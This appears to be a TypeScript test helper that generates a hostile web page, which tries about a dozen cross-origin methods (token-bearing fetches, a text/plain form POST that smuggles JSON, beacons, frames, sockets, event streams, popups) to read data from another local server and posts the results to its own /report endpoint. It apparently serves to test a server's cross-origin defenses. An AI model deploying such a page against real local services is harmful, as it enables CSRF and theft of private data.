/**
 * A page that tries everything a page has to reach another server of this machine, and reports to its own
 * server the text that it could read, by attempt. `path` is the path of the data.
 */
export function hostilePage(facts: { target: string; token: string; path: string }): string {
  return `<!doctype html><title>Hostile</title><body><script>
const { target, token, path } = ${JSON.stringify(facts)}
const json = { method: 'POST', headers: { 'content-type': 'application/json', authorization: 'Bearer ' + token }, body: '{}' }
const read = async (...of) => (await fetch(...of)).text()
const element = (name, more) => new Promise((resolve) => {
  const made = Object.assign(document.createElement(name), more)
  made.onload = () => resolve(made)
  made.onerror = () => resolve(undefined)
  document.body.append(made)
})
const attempts = {
  'fetch': () => read(target + path),
  'fetch with the token': () => read(target + path, json),
  'fetch without asking for leave': () => read(target + path, { ...json, mode: 'no-cors' }),
  'post as a form would': () => read(target + path, { method: 'POST', mode: 'no-cors', headers: { 'content-type': 'text/plain' }, body: '{}' }),
  'beacon': async () => { navigator.sendBeacon(target + path, '{}'); return '' },
  'form': async () => {
    const frame = await element('iframe', { name: 'answer', srcdoc: '' })
    const form = Object.assign(document.createElement('form'), { action: target + path, method: 'post', target: 'answer', enctype: 'text/plain' })
    form.append(Object.assign(document.createElement('input'), { name: '{"a":"', value: '"}' }))
    document.body.append(form)
    form.submit()
    await new Promise((done) => setTimeout(done, 300))
    return frame.contentDocument?.body.textContent ?? ''
  },
  'frame': async () => {
    const frame = await element('iframe', { src: target + '/' })
    return frame.contentDocument?.body.textContent ?? ''
  },
  'script': async () => { await element('script', { src: target + '/script' }); return globalThis.stolen ?? '' },
  'style sheet': async () => (await element('link', { rel: 'stylesheet', href: target + '/style' })) ? 'loaded' : '',
  'image': async () => (await element('img', { src: target + '/image' })) ? 'loaded' : '',
  'WebSocket': () => new Promise((resolve) => {
    const socket = new WebSocket(target.replace('http', 'ws') + '/socket')
    socket.onopen = () => resolve('open')
    socket.onerror = () => resolve('')
  }),
  'events': () => new Promise((resolve) => {
    const events = new EventSource(target + '/events')
    events.onmessage = ({ data }) => { events.close(); resolve(data) }
    events.onerror = () => { events.close(); resolve('') }
  }),
  'window': async () => {
    const opened = window.open(target + '/')
    await new Promise((done) => setTimeout(done, 300))
    try { return opened.document.body.textContent } catch { return '' } finally { opened?.close() }
  },
}
const got = {}
for (const [name, attempt] of Object.entries(attempts)) {
  const late = new Promise((resolve) => setTimeout(resolve, 2000, ''))
  got[name] = await Promise.race([attempt().catch(() => ''), late])
}
await fetch('/report', { method: 'POST', body: JSON.stringify(got) })
</script></body>`.replace('<script>', '<script type="module">')
}
